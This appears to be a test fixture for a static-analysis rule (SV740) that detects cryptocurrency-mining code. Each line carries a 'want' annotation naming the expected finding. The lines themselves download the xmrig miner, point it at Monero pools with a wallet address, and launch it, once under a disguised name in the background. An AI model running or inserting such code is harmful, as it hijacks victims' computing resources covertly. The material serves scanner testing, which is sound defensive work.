import os
import subprocess
import urllib.request

WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"  # want "SV740: Monero wallet address"
POOL = "stratum+tcp://pool.minexmr.com:4444"  # want "SV740: mining pool URL stratum[+]tcp://pool.minexmr.com"
BACKUP = "gulf.moneroocean.stream:10128"  # want "SV740: mining pool host gulf.moneroocean.stream"
urllib.request.urlretrieve("https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-x64.tar.gz", "/tmp/x.tgz")  # want "SV740: downloads a cryptocurrency miner"
subprocess.Popen(["/tmp/.cache/xmrig", "-o", POOL, "-u", WALLET, "--donate-level", "1"])  # want "SV740: starts a cryptocurrency miner [(]xmrig[)]"
os.system("nohup ./sys-update --algo rx/0 -o " + BACKUP + " &")  # want "SV740: starts a cryptocurrency miner"
